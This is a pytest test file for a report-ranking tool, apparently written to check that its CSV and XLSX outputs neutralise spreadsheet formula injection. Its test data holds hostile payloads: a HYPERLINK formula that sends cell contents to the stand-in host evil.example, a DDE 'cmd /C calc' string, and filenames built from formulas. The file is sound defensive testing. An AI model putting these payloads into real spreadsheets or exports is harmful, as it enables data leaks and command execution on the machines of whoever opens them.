"""Formula injection (issue #14 item 1) and failure reasons per path (item 9) in the batch's spreadsheets."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from nianbao.batch.outputs import spreadsheet_safe, write_csv
from nianbao.batch.runner import run_batch

ROOT = Path(__file__).resolve().parents[2]
REPORT = ROOT / "tests" / "fixtures" / "reports" / "county_bureau_2023.txt"
EVIL_TITLE = '=HYPERLINK("http://evil.example/")'  # the agency reader drops it: a name follows the last non-name character
DANGEROUS = tuple("=+-@\t\r\n")


@pytest.mark.parametrize("text, safe", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ('=HYPERLINK("http://evil.example/?d="&C2&D2,"某局")',
                       '\'=HYPERLINK("http://evil.example/?d="&C2&D2,"某局")'), ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("某局", "某局"), ("a=1", "a=1"),
    (-3, -3), (92.5, 92.5), (None, None),
])
def test_owasp_rule(text, safe):
    assert spreadsheet_safe(text) == safe


def test_write_csv_neutralises_every_text_cell(tmp_path):
    write_csv(tmp_path / "x.csv", ["=h", "ok"], [["@SUM(1+1)*cmd|' /C calc'!A0", 5], ["+1", -2]])
    rows = list(csv.reader((tmp_path / "x.csv").open(encoding="utf-8-sig", newline="")))
    assert rows == [["'=h", "ok"], ["'@SUM(1+1)*cmd|' /C calc'!A0", "5"], ["'+1", "-2"]]


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory):
    src = tmp_path_factory.mktemp("hostile_in")
    # the agency's name, wherever the report gives it, starts with a formula (title, preamble, signature)
    evil = REPORT.read_text(encoding="utf-8").replace("青溪县市场监督管理局", EVIL_TITLE + "青溪县市场监督管理局")
    (src / "evil.txt").write_text(evil, encoding="utf-8")
    (src / "=1+2.txt").write_text("junk", encoding="utf-8")
    (src / "@SUM(1+1)*cmd|' C calc'!A0.txt").write_text("junk", encoding="utf-8")  # same bytes as =1+2.txt
    (src / "-2.txt").write_bytes(b"")
    out = tmp_path_factory.mktemp("hostile_out")
    run_batch([src], out, jobs=1, progress=False)
    return src, out


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_csv_outputs_hold_no_formula(hostile_batch):
    src, out = hostile_batch
    for name in ("ranking.csv", "failures.csv", "copying.csv"):
        for row in _cells(out / name):
            assert not any(c.startswith(DANGEROUS) for c in row), (name, row)
    ranking = _cells(out / "ranking.csv")
    assert ranking[1][1] == "青溪县市场监督管理局"  # the formula before the name is not part of the name
    names = sorted(r[1] for r in _cells(out / "failures.csv")[1:])
    assert names == ["'-2.txt", "'=1+2.txt", "'@SUM(1+1)*cmd|' C calc'!A0.txt"]


def test_failure_reason_names_no_other_file(hostile_batch):
    src, out = hostile_batch
    rows = _cells(out / "failures.csv")[1:]
    for row in rows:
        others = [r[0] for r in rows if r[0] != row[0]]
        assert not any(Path(o).name in row[4] for o in others), row
    reasons = {Path(r[0]).name: r[4] for r in rows}
    assert reasons["=1+2.txt"] == reasons["@SUM(1+1)*cmd|' C calc'!A0.txt"]
    assert reasons["=1+2.txt"].startswith("看起来不是政府信息公开工作年度报告")


def test_xlsx_cells_are_strings_never_formulas(hostile_batch):
    from openpyxl import load_workbook

    _, out = hostile_batch
    wb = load_workbook(out / "ranking.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (ws.title, cell.coordinate, cell.value)
    assert wb["排名"]["B2"].value == "青溪县市场监督管理局"
    assert wb["排名"]["B2"].data_type == "s"


def test_xlsx_rows_neutralise_every_formula_start(tmp_path):
    """The writer itself, whatever text reaches it: each formula start gets its apostrophe and a string type."""
    from openpyxl import Workbook, load_workbook

    from nianbao.batch.outputs import _append_strings

    wb = Workbook()
    _append_strings(wb.active, [EVIL_TITLE + "青溪县市场监督管理局", "@SUM(1+1)", "+1", "-2", "ok", 5])
    wb.save(tmp_path / "x.xlsx")
    row = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.value for c in row] == ["'" + EVIL_TITLE + "青溪县市场监督管理局", "'@SUM(1+1)", "'+1", "'-2", "ok", 5]
    assert [c.data_type for c in row] == ["s"] * 5 + ["n"]
